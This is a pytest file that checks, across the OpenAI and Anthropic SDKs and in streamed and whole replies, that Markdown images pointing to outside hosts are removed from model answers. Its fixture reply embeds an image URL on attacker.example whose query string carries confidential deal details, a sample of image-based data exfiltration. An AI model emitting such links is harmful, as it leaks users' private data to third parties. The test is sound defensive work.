"""Links and images in answers, seen by the official SDKs: with no
configuration, a Markdown image that would carry data to another host is
removed from the answer, whole and streamed (cut across many deltas), while
the surrounding text and an ordinary link arrive untouched."""

import pytest

REPLY = (
    "Summary ready. ![chart](https://collect.attacker.example/c.png?d=merger%20closes%20on%20friday) "
    "Details are in [the guide](https://docs.example.com/guide)."
)
CLEANED = "Summary ready. [image removed] Details are in [the guide](https://docs.example.com/guide)."
HEADERS = {"x-mock-reply": REPLY, "x-mock-chunk-bytes": "5"}


@pytest.mark.parametrize("stream", [False, True])
def test_openai_chat_answer_loses_the_image(openai_client, stream):
    kwargs = dict(model="mock-1", messages=[{"role": "user", "content": "summarise the deal"}], extra_headers=HEADERS)
    if stream:
        text = "".join(
            c.choices[0].delta.content or ""
            for c in openai_client.chat.completions.create(stream=True, **kwargs)
            if c.choices
        )
    else:
        text = openai_client.chat.completions.create(**kwargs).choices[0].message.content
    assert text == CLEANED


def test_openai_responses_stream_loses_the_image(openai_client):
    with openai_client.responses.stream(model="mock-1", input="summarise the deal", extra_headers=HEADERS) as s:
        deltas = "".join(e.delta for e in s if e.type == "response.output_text.delta")
        final = s.get_final_response()
    assert deltas == CLEANED
    assert final.output_text == CLEANED


@pytest.mark.parametrize("stream", [False, True])
def test_anthropic_answer_loses_the_image(anthropic_client, stream):
    kwargs = dict(
        model="mock-1",
        max_tokens=200,
        messages=[{"role": "user", "content": "summarise the deal"}],
        extra_headers=HEADERS,
    )
    if stream:
        with anthropic_client.messages.stream(**kwargs) as s:
            text = "".join(s.text_stream)
            final = s.get_final_message()
        assert final.content[0].text == CLEANED
    else:
        text = anthropic_client.messages.create(**kwargs).content[0].text
    assert text == CLEANED
